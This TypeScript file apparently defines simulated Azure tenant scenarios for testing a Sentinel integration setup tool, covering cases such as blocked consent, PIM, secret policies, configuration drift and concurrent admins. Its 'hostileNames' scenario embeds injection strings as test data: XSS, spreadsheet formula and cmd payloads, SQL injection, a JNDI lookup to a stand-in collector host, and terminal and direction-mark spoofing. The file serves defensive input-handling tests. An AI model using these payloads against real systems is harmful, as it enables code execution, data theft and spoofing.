import { graphAppId, logsAppId } from '../core/known-ids.ts';
import { azureRoles, Plan, type Seeded } from './plan.ts';

/** What every ready-made tenant is given. */
export interface Birth {
  readonly seed: number;
  /** When the tenant was first opened; times in it are counted from there. Milliseconds since 1970. */
  readonly bornAt: number;
}

/** The people around the admin, so that there is always somebody to ask. */
export function colleagues(plan: Plan): void {
  plan.person({
    givenName: 'Jonas',
    surname: 'Weber',
    jobTitle: 'Head of Identity',
    active: ['privilegedRoleAdministrator'],
  });
  plan.person({
    givenName: 'Priya',
    surname: 'Nair',
    jobTitle: 'SOC Lead',
    active: ['securityAdministrator'],
  });
  plan.person({
    givenName: 'Tomás',
    surname: 'Ferreira',
    jobTitle: 'SOC Analyst',
    active: ['securityReader'],
  });
  plan.person({ givenName: 'Mei', surname: 'Tanaka', jobTitle: 'Cloud Platform Engineer' });
  plan.person({ givenName: 'Samuel', surname: 'Okoye', jobTitle: 'External Auditor', guest: true });
}

/** One Sentinel workspace among three, in three subscriptions. */
export function threeWorkspaces(plan: Plan, hostile = false) {
  const production = plan.subscription('Production');
  const security = plan.subscription('Security Operations');
  const sandbox = plan.subscription('Sandbox');
  const sentinel = plan.workspace({
    subscription: security,
    resourceGroup: 'rg-soc-prod-neu',
    name: 'soc-prod-neu',
    location: 'northeurope',
    sentinel: 'on',
    profile: 'lively',
    hostile,
  });
  plan.workspace({
    subscription: production,
    resourceGroup: 'rg-platform-weu',
    name: 'platform-logs-weu',
    location: 'westeurope',
    profile: 'quiet',
  });
  plan.workspace({
    subscription: sandbox,
    resourceGroup: 'rg-sandbox',
    name: 'sandbox-logs',
    location: 'westeurope',
    profile: 'empty',
  });
  return { production, security, sandbox, sentinel };
}

/** Applications any tenant of some age has. */
export function usualApplications(plan: Plan): void {
  for (const name of ['Fabrikam Intranet', 'Expense Reports', 'Backup Runner']) {
    plan.principal(plan.application(name, { createdDateTime: plan.ago(500) }));
  }
}

function ada(plan: Plan, active: Parameters<Plan['person']>[0]['active']) {
  return plan.person({
    givenName: 'Ada',
    surname: 'Lind',
    jobTitle: 'Security Engineer',
    active: active ?? [],
  });
}

/** Ada may do everything; nobody has used the Log Analytics API yet. */
export function fresh({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'fresh',
    displayName: 'Fabrikam',
    domain: 'fabrikam.example',
    seed,
    bornAt,
    without: [logsAppId],
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  return plan.done(admin);
}

/** Somebody began by hand and was called away: application, principal, declared permissions, and no more. */
export function halfFinished({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'half-finished',
    displayName: 'Northwind Traders',
    domain: 'northwind.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  const app = plan.application('Dropzone AI Sentinel Integration', {
    createdDateTime: plan.ago(2),
    requiredResourceAccess: plan.declared([logsAppId, 'Data.Read'], [graphAppId, 'SecurityEvents.Read.All']),
  });
  plan.principal(app);
  return plan.done(admin);
}

/** Ada may register and give Azure roles, but only Jonas may consent to Microsoft Graph. */
export function consentBlocked({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'consent-blocked',
    displayName: 'Contoso',
    domain: 'contoso.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['cloudApplicationAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  return plan.done(admin, {
    graph: ['Application.ReadWrite.All', 'Directory.Read.All', 'Organization.Read.All'],
    entraRoles: ['cloudApplicationAdministrator'],
  });
}

/** A Global Administrator who holds nothing in Azure and sees an empty list of subscriptions. */
export function noAzureRights({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'no-azure-rights',
    displayName: 'Tailspin Toys',
    domain: 'tailspin.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  threeWorkspaces(plan);
  const platform = plan.users.find(({ surname }) => surname === 'Tanaka');
  if (platform !== undefined) plan.everywhere(azureRoles.owner, platform);
  return plan.done(admin, { azure: null });
}

const teams = [
  'Retail',
  'Logistics',
  'Finance',
  'Research',
  'Plant',
  'Labs',
  'Legal',
  'Travel',
  'Media',
  'Energy',
  'Health',
  'Fleet',
];
const places = [
  ['northeurope', 'neu'],
  ['westeurope', 'weu'],
  ['uksouth', 'uks'],
  ['eastus', 'eus'],
  ['southeastasia', 'sea'],
] as const;
const purposes = ['Portal', 'Connector', 'Exporter', 'Runner', 'Gateway', 'Reports', 'Sync', 'Scanner'];

/** A large company: 250 applications, 120 subscriptions, 3,000 workspaces, Sentinel in eight of them. */
export function busy({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'busy',
    displayName: 'Wide World Importers',
    domain: 'wideworld.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  // The automation is the two hundred and fiftieth.
  for (let index = 0; index < 249; index += 1) {
    const team = teams[index % teams.length] ?? '';
    const purpose = purposes[Math.floor(index / teams.length) % purposes.length] ?? '';
    const turn = Math.floor(index / (teams.length * purposes.length)) + 1;
    plan.principal(
      plan.application(`${team} ${purpose} ${turn}`, { createdDateTime: plan.ago(900 - index) }),
    );
  }
  for (let index = 0; index < 120; index += 1) {
    const team = teams[index % teams.length] ?? '';
    const subscription = plan.subscription(
      `${team} ${String(Math.floor(index / teams.length) + 1).padStart(2, '0')}`,
    );
    for (let number = 0; number < 25; number += 1) {
      const [location, short] = places[number % places.length] ?? places[0];
      const isSoc = index % 15 === 7 && number === 0;
      plan.workspace({
        subscription,
        resourceGroup: `rg-${team.toLowerCase()}-${short}`,
        name: isSoc
          ? `soc-${team.toLowerCase()}-${short}`
          : `log-${team.toLowerCase()}-${short}-${String(number).padStart(2, '0')}`,
        location,
        sentinel: isSoc ? (index % 2 === 0 ? 'onboarded' : 'on') : 'off',
        profile: isSoc ? 'lively' : 'empty',
      });
    }
  }
  plan.everywhere(azureRoles.owner, admin);
  return plan.done(admin);
}

/** Ada may become everything she needs through PIM, and is none of it yet. */
export function pimEligible({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'pim-eligible',
    displayName: 'Adventure Works',
    domain: 'adventureworks.example',
    seed,
    bornAt,
    premiumP2: true,
  });
  const admin = plan.person({
    givenName: 'Ada',
    surname: 'Lind',
    jobTitle: 'Security Engineer',
    active: ['globalReader'],
    eligible: ['privilegedRoleAdministrator', 'cloudApplicationAdministrator'],
  });
  colleagues(plan);
  usualApplications(plan);
  plan.policy = { ...plan.policy, usersMayCreateApps: false };
  const { security } = threeWorkspaces(plan);
  plan.everywhere(azureRoles.reader, admin);
  plan.eligible(`/subscriptions/${security.id}`, azureRoles.owner, admin);
  return plan.done(admin);
}

/** The tenant's app management policy allows no client secrets. */
export function secretsForbidden({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'secrets-forbidden',
    displayName: 'Woodgrove Bank',
    domain: 'woodgrove.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  plan.policy = {
    ...plan.policy,
    appManagementPolicy: { isEnabled: true, secretsForbidden: true, maxSecretDays: null },
  };
  return plan.done(admin);
}

/**
 * Ada may do everything, and must prove it with a second factor where she changes something in Azure. Token protection
 * keeps Ines out of every program that is not the broker's, Conditional Access keeps Oscar out on this computer.
 */
export function hardened({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'hardened',
    displayName: 'Contoso Assurance',
    domain: 'assurance.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  const blocked = [
    { givenName: 'Ines', surname: 'Moreau', jobTitle: 'Cloud Security Architect', by: 530084 },
    { givenName: 'Oscar', surname: 'Brandt', jobTitle: 'Identity Engineer', by: 53003 },
  ];
  for (const { by, ...who } of blocked) {
    plan.person({ ...who, active: ['globalAdministrator'], signInBlockedBy: by });
  }
  usualApplications(plan);
  threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  plan.policy = { ...plan.policy, azureWritesNeed: 'p1' };
  return plan.done(admin);
}

/** The tenant's app management policy caps a secret's life at 90 days. */
export function shortSecrets({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'short-secrets',
    displayName: 'Litware',
    domain: 'litware.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  plan.policy = {
    ...plan.policy,
    appManagementPolicy: { isEnabled: true, secretsForbidden: false, maxSecretDays: 90 },
  };
  return plan.done(admin);
}

/**
 * Connected by hand 200 days ago; since then the secret ended, the role and a consent went, and what nobody needs came:
 * a grant, a role on the resource group, one elsewhere, a redirect address, public client flows, a guest as the owner.
 */
export function drifted({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'drifted',
    displayName: 'Proseware',
    domain: 'proseware.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  const { sentinel } = threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  const app = plan.application('Dropzone AI Sentinel Integration', {
    createdDateTime: plan.ago(200),
    requiredResourceAccess: plan.declared([logsAppId, 'Data.Read'], [graphAppId, 'SecurityEvents.Read.All']),
    passwordCredentials: [plan.secret('Dropzone AI', 'dRi8Q~ended-long-ago-and-nobody-noticed-it', 200, -18)],
    isFallbackPublicClient: true,
    web: {
      homePageUrl: null,
      logoutUrl: null,
      redirectUris: ['https://connector.proseware.example/signed-in'],
      implicitGrantSettings: { enableAccessTokenIssuance: false, enableIdTokenIssuance: false },
      redirectUriSettings: [],
    },
    owners: plan.users.filter(({ userType }) => userType === 'Guest').map(({ id }) => id),
  });
  const principal = plan.principal(app);
  plan.consent(principal, logsAppId, 'Data.Read');
  // Nobody knows who granted this one; the vendor never asked for it.
  plan.consent(principal, graphAppId, 'Directory.Read.All');
  // The role at the workspace is gone; one at another workspace's group was given instead.
  const other = plan.workspaces.find(({ id }) => id !== sentinel.id);
  if (other !== undefined) plan.role(other.id, azureRoles.logAnalyticsReader, principal, admin.id);
  // Somebody who could not find out which role it takes gave a wide one.
  const group = sentinel.id.split('/providers/')[0] ?? '';
  plan.role(group, azureRoles.contributor, principal, admin.id);
  return plan.done(admin);
}

/** Every name this tenant controls is written to be mistaken for something else: markup, escapes, formulas, direction marks. */
export function hostileNames({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'hostile-names',
    displayName: '<img src=x onerror=alert(1)>\u202Emoc.makirbaf',
    domain: 'hostile.example',
    seed,
    bornAt,
  });
  const admin = plan.person({
    givenName: 'Ada',
    surname: 'Lind',
    jobTitle: '=HYPERLINK("http://collector.example.net","Security Engineer")',
    displayName: 'Ada \u001b[31mLind\u001b[0m </script><script>alert(2)</script>',
    active: ['globalAdministrator'],
  });
  colleagues(plan);
  const names = [
    "=cmd|'/C calc'!A0",
    '@SUM(1+1)*cmd',
    '"; DROP TABLE apps; --',
    '\u001b]0;owned\u0007 Backup',
    '\u202Efdp.exe\u202C report',
    'A'.repeat(250),
    '{{constructor.constructor("return 1")()}}',
    '${jndi:ldap://collector.example.net/a}',
    'Zero\u200Bwidth',
    '[click](javascript:alert(3))',
  ];
  for (const name of names) plan.principal(plan.application(name, { createdDateTime: plan.ago(30) }));
  const security = plan.subscription('=1+1 <b>Security</b>');
  const other = plan.subscription('\u202EnoitcudorP\u202C "quoted" & <script>alert(4)</script>');
  // ARM itself lets nobody write markup into a resource's name; tags and subscription names it does not check.
  plan.workspace({
    subscription: security,
    resourceGroup: 'rg-__proto__',
    name: 'constructor',
    location: 'northeurope',
    sentinel: 'on',
    profile: 'lively',
    hostile: true,
  });
  plan.workspace({
    subscription: other,
    resourceGroup: 'rg-(a)-b._c',
    name: 'toString',
    location: 'westeurope',
    profile: 'empty',
  });
  plan.everywhere(azureRoles.owner, admin);
  return plan.done(admin);
}

/** Jonas works on the same thing at the same time, and does not say so. */
export function twoAdmins({ seed, bornAt }: Birth): Seeded {
  const plan = new Plan({
    name: 'two-admins',
    displayName: 'Trey Research',
    domain: 'trey.example',
    seed,
    bornAt,
  });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  usualApplications(plan);
  threeWorkspaces(plan);
  plan.everywhere(azureRoles.owner, admin);
  plan.surprises.push(
    {
      // As soon as the new application has a principal, he consents to one of its permissions himself.
      id: 'consents-first',
      method: 'PATCH',
      path: /^\/v1\.0\/applications\//i,
      act: (truth, context) => {
        const app = truth.list('applications').find(({ id }) => context.path.includes(id));
        const ready = truth.list('servicePrincipals').some(({ appId }) => appId === app?.appId);
        const declares = app?.requiredResourceAccess.some(
          ({ resourceAppId }) => resourceAppId === graphAppId,
        );
        return app !== undefined && ready && declares === true
          ? { do: 'grant-consent', appId: app.appId, resourceAppId: graphAppId }
          : undefined;
      },
    },
    {
      // He adds a secret of his own beside the one just made.
      id: 'adds-a-secret',
      method: 'POST',
      path: /\/addPassword$/i,
      act: (truth, context) => {
        const app = truth
          .list('applications')
          .find(({ id, appId }) => context.path.includes(id) || context.path.includes(appId));
        return app === undefined
          ? undefined
          : { do: 'add-credential', appId: app.appId, displayName: 'jonas' };
      },
    },
    {
      // And he gives the new principal a role nobody asked for.
      id: 'adds-a-role',
      method: 'PUT',
      path: /\/roleAssignments\/[0-9a-f-]{36}$/i,
      act: (truth) => {
        const latest = truth
          .list('roleAssignments')
          .filter(({ principalType }) => principalType === 'ServicePrincipal')
          .at(-1);
        const scope = latest?.scope.match(/^\/subscriptions\/[^/]+\/resourceGroups\/[^/]+/i)?.[0];
        return latest === undefined || scope === undefined
          ? undefined
          : { do: 'assign-role', scope, role: azureRoles.reader, principalId: latest.principalId };
      },
    },
  );
  return plan.done(admin);
}

/** A company in a cloud of its own, whose every address differs; where and under which names it is told. */
function abroad(
  birth: Birth,
  company: Omit<ConstructorParameters<typeof Plan>[0], keyof Birth>,
  at: {
    readonly security: string;
    readonly services: string;
    readonly short: string;
    readonly region: string;
  },
): Seeded {
  const plan = new Plan({ ...company, ...birth });
  const admin = ada(plan, ['globalAdministrator']);
  colleagues(plan);
  const security = plan.subscription(at.security);
  const services = plan.subscription(at.services);
  plan.workspace({
    subscription: security,
    resourceGroup: `rg-soc-${at.short}`,
    name: `soc-county-${at.short}`,
    location: at.region,
    sentinel: 'on',
    profile: 'lively',
  });
  plan.workspace({
    subscription: services,
    resourceGroup: `rg-services-${at.short}`,
    name: `services-logs-${at.short}`,
    location: at.region,
    profile: 'quiet',
  });
  plan.everywhere(azureRoles.owner, admin);
  return plan.done(admin);
}

/** The same company in the US Government cloud. */
export const usGovernment = (birth: Birth): Seeded =>
  abroad(
    birth,
    {
      name: 'us-government',
      displayName: 'Lucerne County',
      domain: 'lucernecounty.example',
      cloud: 'usgov',
      country: 'US',
    },
    { security: 'County Security', services: 'County Services', short: 'gva', region: 'usgovvirginia' },
  );

/** The same in the cloud of the Department of Defense, where Graph alone has another address. */
export const usDefense = (birth: Birth): Seeded =>
  abroad(
    birth,
    {
      name: 'us-defense',
      displayName: 'Lucerne Arsenal',
      domain: 'lucernearsenal.example',
      cloud: 'usgov-dod',
      country: 'US',
    },
    { security: 'Arsenal Security', services: 'Arsenal Services', short: 'dde', region: 'usdodeast' },
  );

/** The same in China, where Graph has no security alerts. */
export const china = (birth: Birth): Seeded =>
  abroad(
    birth,
    {
      name: 'china',
      displayName: 'Lucerne Shanghai',
      domain: 'lucerneshanghai.example',
      cloud: 'china',
      country: 'CN',
    },
    { security: 'Shanghai Security', services: 'Shanghai Services', short: 'cn2', region: 'chinanorth2' },
  );
